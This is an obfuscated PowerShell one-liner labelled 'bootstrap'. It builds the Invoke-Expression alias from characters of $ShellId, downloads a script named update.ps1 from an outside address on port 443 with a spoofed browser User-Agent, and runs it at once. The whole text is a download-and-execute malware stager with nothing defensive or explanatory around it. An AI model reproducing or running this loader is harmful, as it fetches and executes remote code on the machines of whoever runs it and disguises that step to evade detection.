& ($ShellId[1]+$ShellId[13]+'x') ('# bootstrap 8543 v2
$u = ''http://192.0.2.44:443/''
$wc = New-Object System.Net.WebClient
$wc.Headers.Add(''User-Agent'',''Mozilla/5.0'')
$s = $wc.DownloadString($u + ''update.ps1'')
Invoke-Expression $s
')